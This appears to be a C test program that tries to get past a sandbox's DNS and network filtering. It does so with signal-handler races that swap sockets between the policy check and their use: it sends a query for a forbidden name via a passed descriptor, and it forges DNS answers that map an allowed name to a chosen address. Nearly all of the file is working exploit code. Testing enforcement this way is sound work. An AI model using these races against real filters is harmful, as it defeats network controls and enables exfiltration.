/* One socket is looked at, and the kernel uses another: a signal handler of the only thread comes in between.
 *
 *   replaced_sockets passed SECONDS
 *       hands a connection to a server of our own over to itself (SCM_RIGHTS), which nobody reads; the handler connects
 *       that very socket to the name server. What was received says a name that may not be asked for.
 *   replaced_sockets learnt SECONDS ADDRESS
 *       waits for an answer of the name server; the handler lays a connection to a server of our own under that number,
 *       and the first one again when its bytes were taken. They answer an allowed name with ADDRESS, which is called then.
 *
 * Ends when it got through, or after SECONDS, and prints how many times it tried.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include "alarm.h"

enum { MILLISECOND = 1000, NAMES = 53, WEB = 80 };
enum { WAITED_ON = 70, REAL, OURS, OTHER_END };
static const char resolver[] = "169.254.78.1";
static const char allowed[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0\7allowed\7example\0\0\1\0\1";
static const char stolen[] = "\0\x25\x12\x34\1\0\0\1\0\0\0\0\0\0\6stolen\4evil\7example\0\0\1\0\1";
static struct sockaddr_in here;
static volatile int looked_at, peer, handled, real_is_there;

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static struct sockaddr_in place(const char *address, uint16_t port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
    inet_pton(AF_INET, address, &to.sin_addr);
    return to;
}

static int connects(int descriptor, struct sockaddr_in to)
{
    return !connect(descriptor, (struct sockaddr *)&to, sizeof to);
}

/* -1 when it is refused. */
static int stream_to(struct sockaddr_in to)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connects(s, to))
        return s;
    close(s);
    return -1;
}

static int listen_here(void)
{
    socklen_t len = sizeof here;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    here = place("127.0.0.1", 0);
    if (bind(s, (struct sockaddr *)&here, len) || getsockname(s, (struct sockaddr *)&here, &len) ||
        listen(s, 16))
        abort();
    return s;
}

static void reset_and_connect(int signal)
{
    struct linger at_once = {1, 0};
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    int error = errno;
    (void)signal;
    if (handled)
        return;
    handled = 1;
    setsockopt(peer, SOL_SOCKET, SO_LINGER, &at_once, sizeof at_once);
    close(peer);
    connect(looked_at, &none, sizeof none);
    connects(looked_at, place(resolver, NAMES));
    errno = error;
}

/* What `pair` hands over of a descriptor; -1 when that is refused. */
static int handed_over(const int pair[2], int descriptor)
{
    union {
        struct cmsghdr head;
        char bytes[CMSG_SPACE(sizeof descriptor)];
    } control = {.head = {CMSG_LEN(sizeof descriptor), SOL_SOCKET, SCM_RIGHTS}};
    char byte = 0;
    struct iovec data = {&byte, 1};
    struct msghdr message = {
        .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    memcpy(CMSG_DATA(&control.head), &descriptor, sizeof descriptor);
    if (sendmsg(pair[0], &message, 0) != 1 || recvmsg(pair[1], &message, 0) != 1 || !message.msg_controllen)
        return -1;
    memcpy(&descriptor, CMSG_DATA(&control.head), sizeof descriptor);
    return descriptor;
}

static int is_of_names(int descriptor)
{
    struct sockaddr_in to;
    socklen_t len = sizeof to;
    return !getpeername(descriptor, (struct sockaddr *)&to, &len) && to.sin_port == htons(NAMES);
}

static int try_passed(int seconds)
{
    int pair[2], got = 0, tries = 0, listener = listen_here();
    if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair))
        abort();
    handle(reset_and_connect);
    for (double end = now() + seconds; now() < end && !got; tries++) {
        handled = 1;
        looked_at = stream_to(here);
        peer = accept(listener, NULL, NULL);
        if (looked_at < 0 || peer < 0)
            abort();
        handled = 0;
        set_alarm(1 + rand() % 12);
        int copy = handed_over(pair, looked_at);
        if (handled && copy >= 0 && is_of_names(copy))
            got = write(copy, stolen, sizeof stolen - 1) == sizeof stolen - 1;
        set_alarm(0);
        close(copy);
        close(looked_at);
        if (!handled)
            close(peer);
    }
    return tries;
}

static void lay_in_turns(int signal)
{
    int error = errno;
    (void)signal;
    dup2(real_is_there ? OURS : REAL, WAITED_ON);
    real_is_there = !real_is_there;
    set_alarm(real_is_there ? 60 : 1 + rand() % 12);
    errno = error;
}

static void lay_real(void)
{
    int s = stream_to(place(resolver, NAMES));
    if (s < 0 || dup2(s, REAL) < 0)
        abort();
    close(s);
}

/* The answer that we should like to have, with its length. */
static size_t forge(char *answer, const char *address)
{
    static const char record[] = "\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4";
    struct sockaddr_in wanted = place(address, WEB);
    size_t len = 2;
    memcpy(answer + len, allowed, sizeof allowed - 1);
    answer[4] = (char)0x81; /* an answer, to one question, with one record */
    answer[5] = (char)0x80;
    answer[9] = 1;
    len += sizeof allowed - 1;
    memcpy(answer + len, record, sizeof record - 1);
    len += sizeof record - 1;
    memcpy(answer + len, &wanted.sin_addr, 4);
    answer[0] = 0;
    answer[1] = (char)(len + 2);
    return len + 4;
}

static int try_learnt(int seconds, const char *address)
{
    char answer[128], bytes[512];
    int got = -1, tries = 0, listener = listen_here(), ours = stream_to(here);
    int other_end = accept(listener, NULL, NULL), question = socket(AF_INET, SOCK_DGRAM, 0);
    size_t len = forge(answer, address);
    struct sockaddr_in names = place(resolver, NAMES);
    /* An answer is learnt from when its question was asked. */
    if (sendto(question, allowed, sizeof allowed - 1, 0, (struct sockaddr *)&names, sizeof names) < 0 ||
        recv(question, bytes, sizeof bytes, 0) < 0 || dup2(ours, OURS) < 0 || dup2(other_end, OTHER_END) < 0)
        abort();
    lay_real();
    handle(lay_in_turns);
    for (double end = now() + seconds; now() < end && got < 0; tries++) {
        real_is_there = 1;
        if (dup2(REAL, WAITED_ON) < 0)
            abort();
        send(OTHER_END, answer, len, MSG_DONTWAIT);
        set_alarm(30);
        ssize_t taken = recv(WAITED_ON, bytes, sizeof bytes, 0);
        set_alarm(0);
        if (taken <= 0)
            lay_real(); /* the name server has waited long enough */
        if (tries % 4 == 3)
            got = stream_to(place(address, WEB));
    }
    if (got >= 0 && write(got, "evil.example", 12) != 12)
        abort();
    return tries;
}

int main(int count, char **words)
{
    int seconds = count > 2 ? atoi(words[2]) : 0;
    int tries =
        count > 3 && !strcmp(words[1], "learnt") ? try_learnt(seconds, words[3]) : try_passed(seconds);
    usleep(300 * MILLISECOND);
    printf("%d\n", tries);
    return 0;
}
